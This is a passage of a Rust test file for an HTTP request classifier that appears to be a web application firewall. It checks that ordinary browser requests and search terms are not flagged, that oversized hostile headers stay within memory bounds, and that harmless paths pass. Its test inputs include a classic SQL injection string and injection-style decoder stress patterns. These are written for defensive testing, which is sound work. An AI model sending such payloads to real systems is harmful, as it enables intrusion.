    (b"Referer", b"https://app.example.com/orders/42?tab=items#top"),
    (
        b"X-Forwarded-For",
        b"198.51.100.23, 2001:db8::1, 10.0.0.2",
    ),
    (b"Cookie", b"sid=s%3AaBcD1234.efGH%2BijKL%2FmnOP; ajs_anonymous_id=%22b8f2a1c0-1234-4def-9abc-0123456789ab%22"),
];

#[test]
fn real_browser_requests_are_not_classified() {
    let c = classifier();
    // User agents of browsers and the crawlers a public site sees all day.
    let agents: &[&[u8]] = &[
        b"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
        b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0",
        b"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.144 Mobile Safari/537.36",
        b"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        b"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        b"Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; SLCC2; .NET CLR 2.0.50727; .NET4.0C; .NET4.0E; rv:11.0) like Gecko",
        b"Mozilla/5.0 (Linux; U; Android 4.4.2; en-us; SM-T217S Build/KOT49H) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Safari/534.30",
    ];
    let mut requests: Vec<Vec<(&[u8], &[u8])>> =
        vec![CHROME.to_vec(), FIREFOX.to_vec(), XHR.to_vec()];
    for ua in agents {
        let mut h = FIREFOX.to_vec();
        h[1] = (b"User-Agent", ua);
        requests.push(h);
    }
    // Search terms with quotes, SQL words and URLs, as people type them.
    let queries: &[&[u8]] = &[
        b"",
        b"q=o'reilly+books",
        b"q=o%27reilly%20books&sort=price",
        b"q=select+a+size",
        b"q=update+my+shipping+address",
        b"q=%22exact+phrase%22+-minus",
        b"q=don't+stop+me+now&type=track",
        b"q=rock+%26+roll",
        b"q=c%2B%2B+tutorial",
        b"q=sleep+(song)",
        b"q=who's+on+first%3F",
        b"next=/path/to/page",
        b"next=%2Faccount%2Forders%3Fpage%3D2",
        b"redirect=https%3A%2F%2Fwww.example.com%2Fcart",
        b"utm_source=newsletter&utm_medium=email&utm_campaign=winter-sale_2024",
        b"fbclid=IwAR2xY-abc_DEF123&gclid=Cj0KCQiA",
        b"page=2&per_page=20&order=desc",
    ];
    for headers in &requests {
        let user_agent = headers
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(b"user-agent"))
            .map_or(&b""[..], |(_, v)| v);
        for q in queries {
            let v = verdict(
                &c,
                Parts {
                    method: b"GET",
                    path: b"/search",
                    query: q,
                    headers,
                    user_agent,
                    ..Default::default()
                },
            );
            assert_eq!(
                v.classes,
                0,
                "?{} with {} -> {:?} {:?}",
                String::from_utf8_lossy(q),
                String::from_utf8_lossy(user_agent),
                names(&v),
                ids(&c, &v)
            );
        }
    }
}

#[test]
fn hostile_headers_are_bounded() {
    let c = classifier();
    // One huge value of every shape the decoders work hardest on.
    let shapes: [Vec<u8>; 6] = [
        b"%25".repeat(40_000),
        b"${".repeat(40_000),
        b"${::-".repeat(30_000),
        b"%c0%ae".repeat(20_000),
        b"&#x3c;".repeat(20_000),
        (0..=255u8).cycle().take(120_000).collect(),
    ];
    for value in &shapes {
        for name in [&b"Cookie"[..], b"User-Agent", b"X-Long"] {
            let _ = with_header(&c, name, value);
        }
    }
    // Thousands of headers and cookies: only the bounded number is looked at one by
    // one, and the answer still comes.
    let many_cookies = b"a=1; ".repeat(50_000);
    let _ = with_header(&c, b"Cookie", &many_cookies);
    let filler: Vec<(&[u8], &[u8])> = (0..5_000)
        .map(|_| (&b"X-A"[..], &b"1' OR '1'='1"[..]))
        .collect();
    let v = verdict(
        &c,
        Parts {
            method: b"GET",
            path: b"/",
            headers: &filler,
            ..Default::default()
        },
    );
    assert!(v.has("sqli"));
    // The scratch buffers hold at most what the largest text needed.
    let mut scratch = Scratch::default();
    let headers: [(&[u8], &[u8]); 1] = [(b"Cookie", &shapes[0])];
    let _ = c.classify(
        &Parts {
            headers: &headers,
            ..Default::default()
        },
        &mut scratch,
    );
    let bound = shapes[0].len() + 64;
    assert!(scratch.out.capacity() <= 2 * bound && scratch.tmp.capacity() <= 2 * bound);
}

#[test]
fn benign_paths_that_look_like_probes_are_not() {
    let c = classifier();
    for path in [
        &b"/blog/index/thinkpad-review"[..],
        b"/sdk/docs/getting-started",
        b"/wiki/User_(computing)",
        b"/products/shoe-size-42",
        b"/static/js/app.3f2a1b.min.js",
        b"/images/logo.svg",
        b"/api/v2/users/42/orders",
        b"/docs/php/stream-wrappers.html",
        b"/caf%C3%A9/menu",
    ] {
        let v = verdict(
            &c,
            Parts {
                method: b"GET",
                path,
                ..Default::default()
            },
        );
        assert_eq!(
            v.classes,
            0,
            "{} -> {:?} {:?}",
            String::from_utf8_lossy(path),
            names(&v),
            ids(&c, &v)
        );
    }
}
